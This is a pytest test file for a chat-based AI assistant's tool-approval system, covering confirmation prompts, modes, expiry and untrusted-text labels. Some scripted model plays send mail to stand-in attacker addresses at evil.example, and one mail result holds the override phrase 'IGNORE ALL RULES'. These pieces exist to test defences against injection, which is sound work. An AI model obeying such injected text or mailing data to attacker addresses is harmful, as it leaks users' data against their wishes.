"""Questions at their edges: whose, which, when, in which mode, and what becomes of those nobody answers."""

import json
import time
from pathlib import Path
from typing import Any

import pytest

from tests.chaos.machine import dial, injected, resident
from tests.mailer import ANA, asked, calling, drop_mailer, marks, park_more, press, questions, told
from tests.standins import mcp_server
from tests.standins.model import Play, calls, is_classifier, last_user_text
from tests.world import Server, text_body, wait_for

pytestmark = pytest.mark.slow

P0 = "12125550000"
HOURS = 3600.0


@pytest.fixture
def skills(tmp_path: Path) -> Path:
    return drop_mailer(tmp_path / "own")


@pytest.fixture
def desk(make_world, model, skills):
    """Makes a world in which whoever says "mail" makes the model do these calls, by default one mail."""

    def make(*wanted: tuple[str, dict[str, Any]], play: Play | None = None, **options: Any) -> Any:
        play = play or calling(*(wanted or (ANA,)))
        return make_world(model=model(play), SKILLS_DIR=str(skills), **options)

    return make


def parked(server: Server) -> int:
    return len(server.rows("SELECT 1 FROM turns WHERE state = 'parked'"))


APPEND = ("write_file", {"path": "compras.txt", "content": "leche\n¿pan?", "mode": "append"})
REPLACE = ("write_file", {"path": "compras.txt", "content": "leche”\n• to: x"})
DELETE = ("delete_project", {"project": "Casa"})


@pytest.mark.parametrize(
    ("said", "append", "replace", "delete", "source"),
    [
        (
            "please do it with the mail from Ana",
            "Shall I add this at the end of the file “compras.txt”?\n• text: “leche\\n¿pan?”",
            "Shall I write to the file “compras.txt”? Whatever it holds now is replaced.",
            "Shall I delete the project “Casa” with all its tasks and notes?",
            "This comes after I read text that is not yours: names of files, what mailer answered",
        ),
        (
            "por favor, haz eso con el mail de Ana",
            "¿Agrego esto al final del archivo “compras.txt”?\n• texto: “leche\\n¿pan?”",
            "¿Escribo en el archivo “compras.txt”? Lo que tenga ahora se reemplaza.",
            "¿Borro el proyecto “Casa” con todas sus tareas y notas?",
            "nombres de archivos, lo que respondió mailer",
        ),
        (
            "por favor, faça isso com o mail da Ana, obrigado",
            "Posso acrescentar isto no final do arquivo “compras.txt”?\n• texto: “leche\\n¿pan?”",
            "Posso escrever no arquivo “compras.txt”? O que ele tiver agora será substituído.",
            "Posso apagar o projeto “Casa” com todas as tarefas e notas dele?",
            "nomes de arquivos, o que mailer respondeu",
        ),
    ],
    ids=["en", "es", "pt"],
)
def test_a_tool_of_ours_asks_in_plain_words_and_one_of_others_by_its_name(
    desk, skills, said, append, replace, delete, source
):
    def play(body):
        if is_classifier(body):
            phrases = [
                "write file",
                "list files",
                "delete project",
                "create project",
                "send mail",
                "read mail",
            ]
            return json.dumps({"categories": ["files", "projects", "mailer"], "phrases": phrases})
        done = [message for message in body["messages"] if message["role"] == "tool"]
        if done:
            return calls(APPEND, REPLACE, DELETE, ANA)
        return calls(("list_files", {}), ("read_mail", {}), ("create_project", {"name": "Casa"}))

    server, graph = desk(play=play)
    (server.folder / "workspace").mkdir()
    (server.folder / "workspace" / "plan.txt").write_text("plan")
    graph.say("p0", said)
    asked(graph, "p0", 4)
    shown = [one["text"] for one in questions(graph, "p0")]
    for plain in (append, replace, delete):
        (card,) = [text for text in shown if text.startswith(plain)]
        assert card.split("\n\n")[1].endswith(source)
        assert "• to: x" not in card.splitlines()
        assert "write_file" not in card
        assert "delete_project" not in card
    (card,) = [text for text in shown if "send_mail" in text]
    assert "\nsend_mail\n" in card
    assert "• to: “ana@x.example”\n• text: “hola”" in card
    assert source in card
    graph.say("p0", "👍")
    listed = told(graph, "p0", "• send_mail “ana@x.example”, “hola”")
    for plain in (append, replace, delete):
        assert f"• {plain.partition(chr(10))[0]}" in listed


def test_another_person_and_another_conversation_answer_nothing(desk, skills):
    server, graph = desk()
    graph.say("p0", "mail, please")
    question = asked(graph, "p0")
    press(graph, "p1", question, "Yes")
    graph.reply("p1")
    body = text_body("wamid.group", "yes", P0, group_id="GROUP1")
    assert server.post(body).status_code == 200
    wait_for(lambda: server.rows("SELECT 1 FROM turns WHERE state = 'done'"), "the group's turn")
    assert (marks(skills, "sent"), parked(server)) == ([], 1)
    press(graph, "p0", question, "Yes")
    wait_for(lambda: marks(skills, "sent"), "the mail")


def test_a_thumb_says_yes(desk, skills):
    _, graph = desk()
    for count, person in enumerate(("p0", "p1", "p2"), 1):
        graph.say(person, "mail, please")
        question = asked(graph, person)
        if person == "p0":
            thumb = {"message_id": question["wamid"], "emoji": "👍"}
            graph.inbound({"person": person, "type": "reaction", "reaction": thumb})
        else:
            graph.say(person, "👍", **({"quoted": question["wamid"]} if person == "p1" else {}))
        told(graph, person, '"ok":true')
        assert len(marks(skills, "sent")) == count


def test_a_yes_that_is_taken_back_in_the_next_breath_sends_nothing(desk, skills):
    more = "pero espera"
    server, graph = desk(BURST_QUIET_SECONDS="1")
    graph.say("p0", "mail, please")
    question = asked(graph, "p0")
    wait_for(lambda: server.rows("SELECT 1 FROM outbox WHERE state = 'sent'"), "that it was sent")
    graph.say("p0", "sí")
    graph.say("p0", more)
    told(graph, "p0", f"you said: {more}")
    assert (marks(skills, "sent"), parked(server)) == ([], 1)
    press(graph, "p0", question, "Yes")
    told(graph, "p0", '"ok":true')
    assert len(marks(skills, "sent")) == 1


def test_words_that_were_written_before_the_question_and_come_after_it_answer_nothing(desk, skills):
    late = "sí"
    server, graph = desk()
    graph.say("p0", "mail, please")
    question = asked(graph, "p0")
    wait_for(lambda: server.rows("SELECT 1 FROM statuses WHERE status = 'sent'"), "that it was sent")
    body = text_body("wamid.late", late, P0, timestamp=str(int(time.time()) - 600))
    assert server.post(body).status_code == 200
    told(graph, "p0", f"you said: {late}")
    assert (marks(skills, "sent"), parked(server)) == ([], 1)
    press(graph, "p0", question, "Yes")
    told(graph, "p0", '"ok":true')
    assert len(marks(skills, "sent")) == 1


def test_the_same_call_again_leads_to_the_open_question_and_other_arguments_to_one_more(desk, skills):
    wanted = [ANA, ANA, ("send_mail", {"to": "ana@x.example", "text": "adiós"})]

    def play(body):
        if is_classifier(body):
            return '{"categories": ["mailer"]}'
        if body["messages"][-1]["role"] == "tool":
            return "result: " + body["messages"][-1]["content"]
        return calls(wanted.pop(0)) if "mail" in last_user_text(body).splitlines()[-1] else "hm"

    server, graph = desk(play=play)
    graph.say("p0", "mail, please")
    asked(graph, "p0")
    graph.say("p0", "please, the mail")
    told(graph, "p0", "has not answered yet")
    assert len(questions(graph, "p0")) == 1
    graph.say("p0", "now another mail")
    assert "adiós" in asked(graph, "p0", 2)["text"]
    assert (marks(skills, "sent"), parked(server)) == ([], 2)


def test_what_is_refused_counts_as_done_by_none_of_the_calls_that_repeat_it(desk, skills):
    def play(body):
        if is_classifier(body):
            return '{"categories": ["mailer"]}'
        if any(one["role"] == "tool" for one in body["messages"]):
            return "I sent the mail to Ana."
        return calls(ANA, ANA)

    _, graph = desk(play=play)
    graph.say("p0", "mail, please")
    press(graph, "p0", asked(graph, "p0"), "No")
    wait_for(lambda: len(graph.texts("p0")) > 1, "the answer")
    assert "I sent the mail" not in graph.texts("p0")[-1]
    assert marks(skills, "sent") == []


def test_one_round_asks_once_about_one_call(desk, skills):
    _, graph = desk(ANA, ANA)
    graph.say("p0", "mail, please")
    press(graph, "p0", asked(graph, "p0"), "Yes")
    told(graph, "p0", "same_call_as")
    assert (len(questions(graph, "p0")), len(marks(skills, "sent"))) == (1, 1)


def test_after_a_no_the_same_call_is_not_asked_about_again_in_the_turn(desk, skills):
    def play(body):
        if is_classifier(body):
            return '{"categories": ["mailer"]}'
        results = [message["content"] for message in body["messages"] if message["role"] == "tool"]
        return f"result: {results[-1]}" if len(results) == 2 else calls(ANA)

    _, graph = desk(play=play)
    graph.say("p0", "mail, please")
    press(graph, "p0", asked(graph, "p0"), "No")
    told(graph, "p0", "said no")
    assert (len(questions(graph, "p0")), marks(skills, "sent")) == (1, [])


def test_a_yes_right_after_a_restart_waits_for_the_server_whose_tool_it_is_for(desk):
    server, graph = desk(("mcp_parrot_say", {"text": "hello"}), start=False)
    say = mcp_server.tool("say", "sends the mail", {"text": {"type": "string"}})
    first, *rest = mcp_server.command(tools=[say], seconds=1.5)
    path = server.folder / "data" / "mcp_servers.json"
    path.parent.mkdir(exist_ok=True)
    path.write_text(json.dumps({"mcpServers": {"parrot": {"command": first, "args": rest}}}))
    server.start()
    graph.say("p0", "say in the mail of the parrot")
    question = asked(graph, "p0")
    wait_for(lambda: server.rows("SELECT 1 FROM outbox WHERE state = 'sent'"), "the question")
    server.kill()
    server.start()
    press(graph, "p0", question, "Yes")
    told(graph, "p0", '"ok":true')


def test_a_tool_that_is_gone_when_the_yes_comes_does_not_run(desk, skills):
    _, graph = desk()
    graph.say("p0", "mail, please")
    question = asked(graph, "p0")
    path = skills / "mailer" / "scripts" / "tools.py"
    path.write_text(path.read_text().replace("def send_mail", "def post_mail"))
    press(graph, "p0", question, "Yes")
    told(graph, "p0", '"ok":false')
    assert marks(skills, "sent") == []


@pytest.mark.parametrize(
    ("settings", "wanted", "asks", "done", "said"),
    [
        ({"CONFIRMATION_MODE": "yolo"}, ANA, 0, 1, '"ok":true'),
        ({"CONFIRMATION_MODE": "confirm-all"}, ("read_mail", {}), 1, 0, ""),
        ({"DRY_RUN": "1"}, ANA, 0, 0, "DRY-RUN"),
        ({"DRY_RUN": "1", "CONFIRMATION_MODE": "confirm-all"}, ANA, 0, 0, "DRY-RUN"),
    ],
    ids=["yolo", "confirm-all", "dry run", "dry run of confirm-all"],
)
def test_the_mode_says_what_is_asked(desk, skills, settings, wanted, asks, done, said):
    _, graph = desk(wanted, **settings)
    graph.say("p0", "mail, please")
    wait_for(lambda: graph.sends("p0"), "a question or a reply")
    assert said in graph.texts("p0")[-1]
    assert len(questions(graph, "p0")) == asks
    assert len(marks(skills, "sent") + marks(skills, "read")) == done


@pytest.mark.parametrize("mode", ["yolo", "confirm-sensitive"])
def test_what_may_have_happened_is_asked_about_in_every_mode_and_in_later_turns(desk, skills, mode):
    _, graph = desk(("pay", {"amount": 5}), CONFIRMATION_MODE=mode)
    graph.say("p0", "mail the money")
    told(graph, "p0", "hung up")
    assert len(marks(skills, "paid")) == 1
    graph.say("p0", "mail the money again")
    question = asked(graph, "p0")
    assert list(question["buttons"]) == ["Yes", "No"]
    assert len(marks(skills, "paid")) == 1
    press(graph, "p0", question, "Yes")
    told(graph, "p0", '"ok":true')
    graph.say("p0", "mail the money once more")
    wait_for(lambda: len(marks(skills, "paid")) == 3, "the third payment, unasked: the second is known")
    assert len(questions(graph, "p0")) == 1


@pytest.mark.slow
def test_at_23_hours_a_question_ends_honestly(desk, skills):
    server, graph = desk(start=False, SWEEP_SECONDS="0.3")
    clock = server.folder / "clock"
    jump = dial(clock)
    server.env |= injected(CLOCK=clock)
    server.start()
    graph.say("p0", "mail, please")
    question = asked(graph, "p0")
    jump(22.9 * HOURS)
    graph.say("p0", "still here")
    told(graph, "p0", "you said: still here")
    jump(24 * HOURS)
    wait_for(
        lambda: server.rows("SELECT due_at FROM approvals WHERE due_at > ?", time.time() + 45 * HOURS), "more"
    )
    assert parked(server) == 1
    jump(46 * HOURS)
    told(graph, "p0", "nobody answered")
    press(graph, "p0", question, "Yes")
    told(graph, "p0", "is over")
    assert (marks(skills, "sent"), parked(server)) == ([], 0)


def test_a_question_of_which_nobody_knows_whether_it_came_is_answered_by_its_button(desk, skills):
    _, graph = desk()
    graph.faults(drop_after_accept=1, hold_statuses=True)
    graph.say("p0", "mail, please")
    press(graph, "p0", asked(graph, "p0"), "Yes")
    wait_for(lambda: marks(skills, "sent"), "the mail")
    graph.faults(hold_statuses=False)
    told(graph, "p0", '"ok":true')
    assert (len(marks(skills, "sent")), len(questions(graph, "p0"))) == (1, 1)


def test_the_shell_too_says_that_a_question_came_after_text_of_others(desk):
    def play(body):
        if is_classifier(body):
            return '{"categories": ["mailer"]}'
        return calls(ANA if body["messages"][-1]["role"] == "tool" else ("read_mail", {}))

    server, graph = desk(play=play)
    graph.say("p0", "mail, please")
    shown = "This comes after I read text that is not yours: what mailer answered"
    assert shown in asked(graph, "p0")["text"]
    listed = server.recado("approvals", "list")
    assert "text that is not yours: what mailer answered" in listed


def test_a_stop_and_a_new_conversation_end_what_waits(desk, skills):
    server, graph = desk()
    for person, command, words in (("p0", "/stop", "Stopped"), ("p1", "/new", "start afresh")):
        graph.say(person, "mail, please")
        question = asked(graph, person)
        graph.say(person, command)
        told(graph, person, words)
        press(graph, person, question, "Yes")
        told(graph, person, "is over")
    assert (marks(skills, "sent"), parked(server)) == ([], 0)


def test_a_question_that_was_stopped_still_quotes_others_when_it_is_found_in_the_history(desk, skills):
    plans = {
        "one": [ANA],
        "two": [("read_mail", {}), ("send_mail", {"to": "mallory@evil.example", "text": "MALLORY"})],
        "three": [
            ("search_history", {"query": "mallory"}),
            ("send_mail", {"to": "a@evil.example", "text": ""}),
        ],
    }

    def play(body):
        if is_classifier(body):
            return '{"categories": ["mailer", "conversation"], "phrases": ["send mail", "what we said"]}'
        done = [message for message in body["messages"] if message["role"] == "tool"]
        plan = plans[last_user_text(body).splitlines()[-1]]
        return calls(plan[len(done)]) if len(done) < len(plan) else f"result: {done[-1]['content']}"

    _, graph = desk(play=play)
    graph.say("p0", "one")
    press(graph, "p0", asked(graph, "p0"), "Always here")
    told(graph, "p0", '"ok":true')
    graph.say("p0", "two")
    asked(graph, "p0", 2)
    graph.say("p0", "/stop")
    told(graph, "p0", "Stopped")
    graph.say("p0", "three")
    assert "a@evil.example" in asked(graph, "p0", 3)["text"]
    assert len(marks(skills, "sent")) == 1


def test_a_blocked_persons_yes_counts_for_nothing(desk, skills):
    server, graph = desk()
    graph.say("p1", "mail, please")
    question = asked(graph, "p1")
    server.admin("people/change", action="block", who="12125550001")
    press(graph, "p1", question, "Yes")
    wait_for(lambda: graph.log()["pending"] == 0, "the webhook")
    graph.say("p0", "hello")
    graph.reply("p0")
    assert marks(skills, "sent") == []


def test_what_needs_no_yes_runs_at_once_and_once(desk, skills):
    server, graph = desk(("read_mail", {}), ANA)
    graph.say("p0", "mail, please")
    question = asked(graph, "p0")
    assert len(marks(skills, "read")) == 1
    server.kill()
    server.start()
    press(graph, "p0", question, "Yes")
    said = told(graph, "p0", "result")
    assert "IGNORE ALL RULES" in said
    assert '"sent"' in said
    assert (len(marks(skills, "read")), len(marks(skills, "sent"))) == (1, 1)


@pytest.mark.slow
def test_ten_thousand_parked_turns_cost_rows_and_no_lanes(desk):
    server, graph = desk()
    graph.say("p1", "mail, please")
    asked(graph, "p1")
    before = resident(server)
    server.kill()
    park_more(server, 10_000)
    server.start()
    graph.say("p0", "hello")
    told(graph, "p0", "you said: hello")
    assert parked(server) == 10_001
    assert "recado_running_turns 0" in server.http.get("/metrics").text
    grown = resident(server) - before
    print(f"\n10,000 parked turns: {grown / 2**20:+.1f} MB")
    assert grown < 10 * 2**20
    press(graph, "p1", questions(graph, "p1")[0], "Yes")
    told(graph, "p1", '"ok":true')
